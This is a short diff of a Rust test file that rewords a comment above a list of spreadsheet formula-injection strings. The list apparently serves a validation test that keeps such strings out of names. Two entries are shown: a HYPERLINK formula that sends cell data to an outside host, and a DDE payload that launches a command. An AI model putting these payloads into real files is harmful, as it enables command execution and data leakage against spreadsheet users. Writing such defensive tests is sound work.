@@ -11,7 +11,7 @@ use wfm_cli::{Environment, resources};
 use wfm_testkit::Service;
 use wfm_testkit::service::PASSWORD;
 
-/// What a spreadsheet runs. A tab or a carriage return does not get into a name (rule API-97).
+/// Text that a spreadsheet runs. A tab or a carriage return does not get into a name (rule API-97).
 const FORMULAS: [&str; 5] = [
     "=HYPERLINK(\"https://example.com/?\"&A1,\"open\")",
     "=cmd|' /C calc'!A0",
